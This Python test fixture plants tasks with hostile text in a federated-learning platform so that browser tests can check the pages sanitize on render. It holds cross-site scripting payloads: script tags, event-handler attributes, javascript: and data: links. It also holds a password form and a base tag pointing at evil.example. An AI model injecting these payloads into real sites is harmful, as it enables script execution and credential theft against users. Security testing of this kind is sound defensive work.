"""Tasks whose every text field, name and link is hostile, planted in the browser tests' platform.

``plant()`` runs inside the platform (``manage.py shell``): it copies the tiny tasks' models into
``hostile_tabular`` and ``hostile_shapes`` and then writes the hostile text with ``QuerySet.update``,
which bypasses validation and sanitizing on save, as rows written before either existed would be.
So the pages must defend on render. ``normal_html`` is a well-formatted task for comparison.
"""

from __future__ import annotations

from typing import Any

# Every payload that runs sets this marker and/or opens a dialog; the tests assert neither happens.
RUN = "window.__pwned=1;alert(1)"

TITLE = f'Hostile "><script>{RUN}</script> task'
PREVIEW = f'<img src=x onerror="{RUN}"> preview with "quotes" & <b>tags</b>'
OVERVIEW = (
    '<p>Allowed <strong>bold</strong>, <em>italic</em> and a <a href="https://example.org/">web link</a>.</p>'
    "<ul><li>first point</li><li>second point</li></ul>"
    f"<script>{RUN}</script>"
    f'<img src=x onerror="{RUN}">'
    f'<svg onload="{RUN}"><circle r="5"></circle></svg>'
    f'<p><a href="javascript:{RUN}">click me</a> and <a href="data:text/html,<script>{RUN}</script>">data link</a>'
    f' and <a href="  JaVaScRiPt:{RUN}">spaced link</a></p>'
    f'<p onclick="{RUN}" style="position:fixed;top:0;left:0;width:100%;height:100%">covering paragraph</p>'
    f"\"'><iframe src=\"javascript:{RUN}\"></iframe><details open ontoggle=\"{RUN}\">details</details>"
    f'<form action="https://evil.example/"><input name="password" autofocus onfocus="{RUN}"></form>'
    f'<style>body {{ display: none }}</style><base href="https://evil.example/">'
)
MODEL_DESCRIPTION = f'<h3>Layers</h3><p>A <code>Dense</code> network.</p><img src=x onerror="{RUN}">'
DATA_FORMAT = f"<script>{RUN}</script> A CSV with \"quotes\" & <b>tags</b>."
EXAMPLE_TEXT = f'<img src=x onerror="{RUN}">'
EXAMPLE = [{"columnName": f'<img src=x onerror="{RUN}">', "columnData": f"<script>{RUN}</script>"}]
LINK = f"javascript:{RUN}"
INSTRUCTIONS = f'<a href="javascript:{RUN}">get the data</a>'
COLUMNS = ["<b>a</b>", f'"><img src=x onerror="{RUN}">', f"c' onmouseover='{RUN}'", f"<svg onload={RUN}>"]
OUTPUT = f"label<script>{RUN}</script>"
LABELS = [f'<img src=x onerror="{RUN}">', f'"><script>{RUN}</script>']

HOSTILE_TEXT: dict[str, Any] = {
    "title": TITLE, "summary_preview": PREVIEW, "summary_overview": OVERVIEW, "model_description": MODEL_DESCRIPTION,
    "data_format": DATA_FORMAT, "data_example_text": EXAMPLE_TEXT, "data_example": EXAMPLE,
    "data_example_image": LINK, "sample_dataset_link": LINK, "sample_dataset_instructions": INSTRUCTIONS,
}

NORMAL_OVERVIEW = (
    "<p>Hospitals train one model together <strong>without sharing patient records</strong>: only model "
    "updates leave each browser.</p>"
    "<h3>What you need</h3>"
    "<ul><li>a CSV file with the columns <code>a</code> to <code>d</code>;</li>"
    "<li>a few minutes of <em>browser time</em>.</li></ul>"
    "<blockquote>Every row stays on your device.</blockquote>"
    '<p>Background reading: <a href="https://example.org/federated">federated learning</a>.</p>'
)
NORMAL_MODEL = "<p>A small <abbr title=\"multilayer perceptron\">MLP</abbr>:</p><ol><li>Dense 16, ReLU</li>" \
               "<li>Dense 1, sigmoid</li></ol><pre><code>model.fit(x, y)</code></pre>"


def _copy_task(source_id: str, new_id: str, **fields: Any) -> None:
    from django.core.files.storage import default_storage

    from tasks.models import Task
    from tasks.tfjs_format import parse_layers_model
    from tasks.versions import create_version

    source = Task.objects.get(pk=source_id)
    version = source.current_version

    def read(name: str) -> bytes:
        with default_storage.open(version.storage_path(name), "rb") as fh:
            return fh.read()

    shards = {name: read(name) for name in version.file_names() if name != "model.json"}
    artifacts = parse_layers_model(read("model.json"), shards)
    Task.objects.filter(pk=new_id).delete()
    values = {name: getattr(source, name) for name in source.spec_values()}
    task = Task.objects.create(**{**values, "id": new_id, "published": True})
    create_version(task, artifacts, origin="upload")
    Task.objects.filter(pk=new_id).update(**fields)  # no validation, no sanitizing: the render must cope


def plant() -> None:
    _copy_task("tiny_tabular", "hostile_tabular", **HOSTILE_TEXT, input_columns=COLUMNS, output_columns=[OUTPUT])
    _copy_task("tiny_shapes", "hostile_shapes", **HOSTILE_TEXT, labels=LABELS)
    _copy_task("tiny_tabular", "normal_task", title="Heart disease, together",
               summary_preview="Predict heart disease from four measurements, without sharing records.",
               summary_overview=NORMAL_OVERVIEW, model_description=NORMAL_MODEL,
               data_format="A CSV file with a header row.\n\nOne patient per row.",
               sample_dataset_link="https://example.org/heart.csv",
               sample_dataset_instructions="Download the file and connect it on the training page.")
